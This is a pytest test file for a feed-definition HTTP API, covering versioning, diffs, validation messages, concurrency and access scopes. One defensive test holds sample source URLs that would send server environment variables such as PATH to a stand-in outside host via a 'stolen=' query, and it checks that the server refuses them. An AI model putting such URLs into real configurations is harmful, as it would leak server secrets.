"""Feeds over HTTP: new versions, refused texts, what changed, and payloads that come meanwhile."""

import itertools
import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from hashlib import sha256
from typing import Any

import httpx
import pytest

from tests.api.samples import problem
from tests.support.api import Api, running_api
from tidemill.api.feed_admin import MAX_FEED
from tidemill.catalog.keys import create_key
from tidemill.feeds.recipes import RECIPES

_names = (f"feed{n}" for n in itertools.count())


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    with running_api(tmp_path_factory.mktemp("feeds")) as running:
        yield running


@pytest.fixture
def name() -> str:
    return next(_names)


def definition(name: str, *, max_age: str = "1h", more: str = "", head: str = "") -> str:
    return (
        f'name = "{name}"\n{head}[time]\npath = "$.t"\nformat = "unix_s"\n[fields.bar]\npath = "$.bar"\n'
        f'[[rules]]\ncheck = "max_age"\noptions = {{ max_age = "{max_age}" }}\n{more}'
    )


def put(api: Api, name: str, text: str | bytes, **options: Any) -> httpx.Response:
    return api.client.put(f"/v1/feeds/{name}", content=text, **options)


def test_a_feed_is_made_changed_and_left_as_it_is(server: Api, name: str) -> None:
    made = put(server, name, definition(name))
    assert made.status_code == 201, made.text
    assert made.headers["etag"] == '"1"'
    first = made.json()
    assert (first["name"], first["version"], first["changed"], first["diff"]) == (name, 1, True, None)
    assert first["sha256"] == sha256(definition(name).encode()).hexdigest()
    assert first["created_at"].endswith("Z")
    assert server.client.get(first["links"]["self"]).json()["text"] == definition(name)

    changed = put(server, name, definition(name, max_age="2h"))
    assert (changed.status_code, changed.headers["etag"]) == (200, '"2"')
    assert changed.json()["changed"] is True
    change = {"path": "rules[0].options.max_age", "change": "changed", "old": "1h", "new": "2h", "hidden": False}
    assert changed.json()["diff"] == [change]

    again = put(server, name, definition(name, max_age="2h"))
    assert (again.status_code, again.json()["version"]) == (200, 2)
    assert (again.json()["changed"], again.json()["diff"]) == (False, [])
    layout = put(server, name, "# why\n" + definition(name, max_age="2h")).json()
    assert (layout["version"], layout["changed"], layout["diff"]) == (3, True, [])


def test_the_body_is_the_text_whatever_its_content_type(server: Api) -> None:
    for kind in ("application/x-www-form-urlencoded", "application/toml", "text/plain; charset=latin-1", "image/png"):
        name = next(_names)
        assert put(server, name, definition(name), headers={"Content-Type": kind}).status_code == 201, kind


def test_the_next_payload_is_taken_under_the_new_version(server: Api, name: str) -> None:
    for n in range(1, 6):
        assert put(server, name, definition(name, max_age=f"{n}h")).json()["version"] == n
        taken = server.client.post(f"/v1/feeds/{name}", json={"t": 1, "bar": 1.0})
        assert taken.status_code == 202
        assert server.services.book.current("default", name).version == n
        logged = server.services.log.find("default", taken.json()["id"])
        assert logged is not None and logged.payload.feed_version == n


def test_every_fault_is_named_with_its_line_and_the_version_in_force_stays(server: Api, name: str) -> None:
    put(server, name, definition(name))
    bad = definition("other", max_age="soon", more="[fields.x]\nrequred = true\n", head='duplicates = "first"\n')
    document = problem(put(server, name, bad), 400, "feed_invalid")
    faults = {(fault["path"], fault["code"]) for fault in document["errors"]}
    assert faults >= {
        (f"{name}.toml:1: name", "name_mismatch"),
        (f"{name}.toml:2: duplicates", "cannot_change"),
        (f"{name}.toml:10: rules.0.options.max_age", "bad_options"),
        (f"{name}.toml:12: fields.x.requred", "unknown_key"),
        (f"{name}.toml:11: fields.x.path", "missing"),
    }
    assert "did you mean 'required'?" in document["detail"]
    assert server.client.get(f"/v1/feeds/{name}").json()["version"] == 1
    problem(put(server, next(_names), bad), 400, "feed_invalid")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (b'{"name": "x"}', "JSON"),
        (b"name = ", "not TOML"),
        (b'name = "\xff"', "not UTF-8: byte 8"),
        (b"", "the body is empty"),
        (b"a = [" + b"[" * 100_000, "nested too deeply"),
        (b"name = 1\n", "name"),
    ],
)
def test_what_is_no_definition_is_said(server: Api, name: str, text: bytes, said: str) -> None:
    assert said in problem(put(server, name, text), 400, "feed_invalid")["detail"]


def test_a_file_that_lost_its_line_breaks_to_curl_is_explained(server: Api, name: str) -> None:
    glued = ("# pumps\n" + definition(name)).replace("\n", "")
    sent = put(server, name, glued, headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert "--data-binary" in problem(sent, 400, "feed_invalid")["detail"]


@pytest.mark.parametrize("name", ["Pumps", "1", "%00", "a" * 65, "a.b"])
def test_a_name_that_cannot_be_one_makes_no_feed(server: Api, name: str) -> None:
    problem(put(server, name, definition("x")), 400, "feed_invalid")
    assert server.client.get(f"/v1/feeds/{name}/versions").status_code == 404


def test_a_definition_has_a_longest_length(server: Api, name: str) -> None:
    long = definition(name) + "#" * MAX_FEED
    document = problem(put(server, name, long), 413, "too_large")
    assert document["errors"][0]["code"] == "max_feed"
    problem(put(server, name, iter([long.encode()])), 413, "too_large")  # type: ignore[arg-type]
    fits = definition(name)
    assert put(server, name, fits + "#" * (MAX_FEED - len(fits))).status_code == 201


def test_an_upload_that_breaks_off_changes_nothing(server: Api, name: str) -> None:
    text = definition(name).encode()
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as wire:
        wire.sendall(
            f"PUT /v1/feeds/{name} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {len(text) + 9}\r\n\r\n".encode()
        )
        wire.sendall(text)
    deadline = time.monotonic() + 60
    counted = 'route="/v1/feeds/{feed}",status="400"'
    while counted not in server.client.get("/metrics").text:
        assert time.monotonic() < deadline
    assert 'status="500"' not in server.client.get("/metrics").text
    assert server.client.get(f"/v1/feeds/{name}").status_code == 404


def test_a_dry_run_says_what_would_change_and_changes_nothing(server: Api, name: str) -> None:
    new = put(server, name, definition(name), params={"dry_run": "true"})
    assert (new.status_code, new.json()["version"], new.json()["dry_run"]) == (200, 1, True)
    assert (new.json()["created_at"], new.json()["diff"]) == (None, None)
    assert server.client.get(f"/v1/feeds/{name}").status_code == 404
    put(server, name, definition(name))
    tried = put(server, name, definition(name, max_age="2h"), params={"dry_run": "true"}).json()
    assert (tried["version"], tried["changed"], len(tried["diff"])) == (2, True, 1)
    same = put(server, name, definition(name), params={"dry_run": "true"}).json()
    assert (same["version"], same["changed"], same["dry_run"]) == (1, False, True)
    problem(put(server, name, "x", params={"dry_run": "true"}), 400, "feed_invalid")
    problem(put(server, name, definition(name), params={"dry_run": "maybe"}), 400, "invalid")
    assert server.client.get(f"/v1/feeds/{name}").json()["version"] == 1


def test_a_lost_update_is_refused(server: Api, name: str) -> None:
    problem(put(server, name, definition(name), headers={"If-Match": '"1"'}), 412, "version_mismatch")
    put(server, name, definition(name))
    changed = put(server, name, definition(name, max_age="2h"), headers={"If-Match": '"1"'})
    assert changed.json()["version"] == 2
    for dry_run in ("true", "false"):
        sent = put(
            server,
            name,
            definition(name, max_age="3h"),
            headers={"If-Match": '"1"'},
            params={"dry_run": dry_run},
        )
        assert "at version 2" in problem(sent, 412, "version_mismatch")["detail"]
    for header in ("x", '"1", "2"', "*", 'W/"2"', ""):
        sent = put(server, name, definition(name), headers={"If-Match": header})
        assert problem(sent, 400, "invalid")["errors"][0]["path"] == "$header.If-Match"


@pytest.mark.parametrize(
    ("head", "more", "key"),
    [('duplicates = "keep"\n', "", "duplicates"), ("", '[shape]\nkind = "summary"\n', "shape.kind")],
)
def test_what_stored_points_were_decided_by_cannot_change(
    server: Api, name: str, head: str, more: str, key: str
) -> None:
    put(server, name, definition(name))
    document = problem(put(server, name, definition(name, head=head, more=more)), 400, "feed_invalid")
    (fault,) = [item for item in document["errors"] if item["code"] == "cannot_change"]
    assert fault["path"].endswith(f": {key}")
    assert "new feed" in fault["message"]
    written = definition(name, head='duplicates = "last"\n', more='[rollups]\nevery = "5m"\n[shape]\nkind = "points"\n')
    assert put(server, name, written).json()["version"] == 2
    assert put(server, name, written.replace("5m", "1h")).json()["version"] == 3  # the windows to come may be others


def test_versions_are_listed_newest_first_with_what_each_changed(server: Api, name: str) -> None:
    hours = [1, 2, 2, 3, 4, 5]
    for n, hour in enumerate(hours):
        assert put(server, name, definition(name, max_age=f"{hour}h") + "#" * n).json()["version"] == n + 1
    page = server.client.get(f"/v1/feeds/{name}/versions").json()
    assert [item["version"] for item in page["items"]] == [6, 5, 4, 3, 2, 1]
    diffs = [
        [(c["old"], c["new"]) for c in item["diff"]] if item["diff"] is not None else None for item in page["items"]
    ]
    assert diffs == [[("4h", "5h")], [("3h", "4h")], [("2h", "3h")], [], [("1h", "2h")], None]
    assert server.client.get(page["items"][2]["links"]["self"]).json()["sha256"] == page["items"][2]["sha256"]
    walked, cursor = [], None
    while walked == [] or cursor:
        query = {"limit": "4"} | ({"cursor": cursor} if cursor else {})
        part = server.client.get(f"/v1/feeds/{name}/versions", params=query).json()
        walked, cursor = walked + part["items"], part["next"]
    assert walked == page["items"]
    problem(server.client.get("/v1/feeds/never/versions"), 404, "not_found")


def test_any_two_versions_are_compared_in_both_directions(server: Api, name: str) -> None:
    for hour in (1, 2, 3):
        put(server, name, definition(name, max_age=f"{hour}h"))
    url = f"/v1/feeds/{name}/versions/1/diff"
    diff = server.client.get(url).json()  # to the one in force
    assert (diff["from"], diff["to"]) == (1, 3)
    assert [(change["old"], change["new"]) for change in diff["diff"]] == [("1h", "3h")]
    assert f"--- {name} (version 1)\n+++ {name} (version 3)" in diff["text"]
    assert '+options = { max_age = "3h" }' in diff["text"]
    back = server.client.get(f"/v1/feeds/{name}/versions/3/diff", params={"to": "2"}).json()
    assert [(change["old"], change["new"]) for change in back["diff"]] == [("3h", "2h")]
    assert server.client.get(url, params={"to": "1"}).json()["diff"] == []
    for wrong in (f"/v1/feeds/{name}/versions/9/diff", f"{url}?to=9", "/v1/feeds/never/versions/1/diff"):
        problem(server.client.get(wrong), 404, "not_found")
    for wrong in (f"{url}?to=0", f"{url}?to=x"):
        problem(server.client.get(wrong), 400, "invalid")
    assert server.client.get(f"/v1/feeds/{name}/versions/{10**30}/diff").status_code in (400, 404)


def test_who_may_change_feeds_and_who_sees_what(server: Api, tmp_path_factory: pytest.TempPathFactory) -> None:
    with running_api(tmp_path_factory.mktemp("feeds-keyed"), open_access=False) as api:
        made = {scope: create_key(api.services.catalog, "acme", [scope])[1] for scope in ("read", "write", "admin")}
        _, stranger = create_key(api.services.catalog, "other", ["admin"])
        api.services.keys.refresh()
        key = {scope: {"X-API-Key": secret} for scope, secret in made.items()}
        text = definition("pumps", more='[source]\nurl = "http://127.0.0.1:1/one"\nevery = "1d"\n')
        problem(put(api, "pumps", text), 401, "unauthorized")
        for scope in ("read", "write"):
            problem(put(api, "pumps", text, headers=key[scope]), 403, "forbidden")
        assert put(api, "pumps", text, headers=key["admin"]).status_code == 201
        put(api, "pumps", text.replace("/one", "/two"), headers=key["admin"])
        for path in ("/v1/feeds/pumps/versions", "/v1/feeds/pumps/versions/1/diff"):
            problem(api.client.get(path, headers={"X-API-Key": stranger}), 404, "not_found")
            shown = api.client.get(path, headers=key["read"])
            assert "source.url" in shown.text and "/one" not in shown.text and "/two" not in shown.text
            assert "/one" in api.client.get(path, headers=key["admin"]).text
        assert api.client.get("/v1/feeds/pumps/versions/1/diff", headers=key["read"]).json()["text"] is None


def test_a_variable_of_the_server_is_not_told_to_who_sends_a_definition(
    server: Api, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TIDEMILL_SERVER_SECRET", "hunter2")
    for reference in ("${TIDEMILL_SERVER_SECRET}", "${TIDEMILL_SERVER_SECRET:-x}"):
        text = definition(name, more=f'[source]\nurl = "{reference}"\nevery = "${{TIDEMILL_SERVER_SECRET:-1s}}"\n')
        document = problem(put(server, name, text), 400, "feed_invalid")
        assert "hunter2" not in str(document)
        assert f"{name}.toml:11: source.url" in str(document)


@pytest.mark.parametrize("reference", ["${PATH}", "${PATH:-x}", "${TIDEMILL_RUNTIME}", "${TIDEMILL_KEY:-x}"])
def test_a_feed_cannot_send_out_what_the_server_was_not_told_to_share(server: Api, name: str, reference: str) -> None:
    text = definition(name, more=f'[source]\nurl = "http://192.0.2.1/?stolen={reference}"\n')
    document = problem(put(server, name, text), 400, "feed_invalid")
    [fault] = document["errors"]
    assert (fault["path"], fault["code"]) == (f"{name}.toml:11: source.url", "variable_refused")
    if "PATH" in reference:
        assert "TIDEMILL_SOURCE_VARIABLES=TIDEMILL_*,PATH" in fault["message"]
    assert server.client.get(f"/v1/feeds/{name}").status_code == 404


def test_two_changes_at_once_both_become_versions(server: Api, name: str) -> None:
    start = threading.Barrier(6)

    def change(n: int) -> int:
        start.wait()
        return int(httpx.put(f"{server.url}/v1/feeds/{name}", content=definition(name) + "#" * n).json()["version"])

    with ThreadPoolExecutor(6) as pool:
        versions = list(pool.map(change, range(6)))
    assert sorted(versions) == [1, 2, 3, 4, 5, 6]
    for n, version in enumerate(versions):
        kept = server.client.get(f"/v1/feeds/{name}", params={"version": str(version)}).json()
        assert kept["text"] == definition(name) + "#" * n


def test_of_two_changes_of_one_version_at_once_one_is_refused(server: Api, name: str) -> None:
    put(server, name, definition(name))
    start = threading.Barrier(4)

    def change(n: int) -> int:
        start.wait()
        text = definition(name) + "#" * (n + 1)
        return httpx.put(f"{server.url}/v1/feeds/{name}", content=text, headers={"If-Match": '"1"'}).status_code

    with ThreadPoolExecutor(4) as pool:
        assert sorted(pool.map(change, range(4))) == [200, 412, 412, 412]
    assert server.client.get(f"/v1/feeds/{name}").json()["version"] == 2


def test_each_payload_is_applied_under_the_version_that_its_receipt_names(whole: Api, name: str) -> None:
    """Versions 1, 3, 5 take what is ten minutes old; versions 2, 4, 6 reject it."""

    def text(version: int) -> str:
        return definition(name, max_age="1h" if version % 2 else "1m") + "#" * version

    assert put(whole, name, text(1)).status_code == 201
    now = int(time.time())
    ended, begun = threading.Event(), threading.Barrier(3)

    def send(client: int) -> list[str]:
        receipts = []
        with httpx.Client(base_url=whole.url, timeout=15, trust_env=False) as http:
            for n in itertools.count():
                last = ended.is_set()
                answer = http.post(f"/v1/feeds/{name}", json={"t": now - 600 - client * 1000 - n, "bar": n})
                assert answer.status_code == 202
                receipts.append(answer.json()["id"])
                if n == 0:
                    begun.wait(10)
                if last:
                    return receipts
        raise AssertionError

    with ThreadPoolExecutor(2) as pool:
        senders = [pool.submit(send, client) for client in range(2)]
        begun.wait(10)
        for version in range(2, 7):
            time.sleep(0.05)
            assert put(whole, name, text(version)).json()["version"] == version
        ended.set()
        sent = [receipt for sender in senders for receipt in sender.result(30)]
    last = whole.client.post(f"/v1/feeds/{name}", json={"t": now - 600, "bar": 0}, headers={"Prefer": "wait=20"}).json()
    assert (last["state"], last["rules_version"], last["rejected"]) == ("applied", 6, 1)
    outcomes = [whole.client.get(f"/v1/receipts/{receipt}").json() for receipt in sent]
    assert {outcome["rules_version"] for outcome in outcomes} >= {1, 6}
    for outcome in outcomes:
        assert (outcome["accepted"], outcome["rejected"]) == ((1, 0) if outcome["rules_version"] % 2 else (0, 1)), (
            outcome
        )


def test_recipes_can_be_sent_back_as_they_are(server: Api) -> None:
    for recipe, text in RECIPES.items():
        answer = put(server, recipe, text).json()
        assert (answer["version"], answer["changed"]) == (1, False)


def test_a_feed_whose_plug_in_is_not_installed_is_shown_with_its_fault(server: Api, name: str) -> None:
    text = definition(name, head='[input]\nformats = ["json", "key-value"]\n')
    assert put(server, name, text).status_code == 400
    server.services.texts.apply("default", name, text)  # as another server did, that has the plug-in
    shown = server.client.get(f"/v1/feeds/{name}")
    assert (shown.status_code, shown.json()["definition"], shown.json()["text"]) == (200, None, text)
    assert "unknown format 'key-value'" in shown.json()["fault"]
    assert server.client.get("/v1/feeds/meters").json()["fault"] is None


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "the body is empty: send the file itself"),
        (" \n", "the body is empty"),
        ("version = 7\n" + definition("x"), "versions are counted by the server"),
        (
            definition("x", more='[[rules]]\ncheck = "range"\noptions = { field = "bar", maxx = 3 }\n'),
            "'max'?); its opt",
        ),
        ('name = "x"\n[input]\nformats = ["binary"]\n[fields.v]\ntype = "uint8"\nat = 0\n', "with record_bytes"),
        ('name = "x"\n[input]\nformats = ["binary"]\n[fields.v]\ntype = "uint8"\nat = 0\n', "where the time is (at)"),
    ],
)
def test_a_fault_says_what_to_do(server: Api, text: str, words: str) -> None:
    document = problem(
        put(server, "x", text, headers={"Content-Type": "application/x-www-form-urlencoded"}), 400, "feed_invalid"
    )
    assert words in " ".join(fault["message"] for fault in document["errors"])
    assert ("curl -d" in document["detail"]) == bool(text.strip() and "\n" not in text)


def test_none_match_makes_only_new_feeds(server: Api, name: str) -> None:
    new = {"If-None-Match": "*"}
    assert put(server, name, definition(name), headers=new).status_code == 201
    there = problem(put(server, name, definition(name, max_age="3h"), headers=new), 412, "version_mismatch")
    assert "exists already, at version 1" in there["detail"]
    assert put(server, name, definition(name), headers={"If-None-Match": '"1"'}).status_code == 400


def test_the_version_in_force_is_compared_with_the_one_before_it(server: Api, name: str) -> None:
    for age in ("1h", "2h"):
        put(server, name, definition(name, max_age=age))
    diff = server.client.get(f"/v1/feeds/{name}/versions/2/diff").json()
    assert (diff["from"], diff["to"], [(change["old"], change["new"]) for change in diff["diff"]]) == (
        1,
        2,
        [("1h", "2h")],
    )
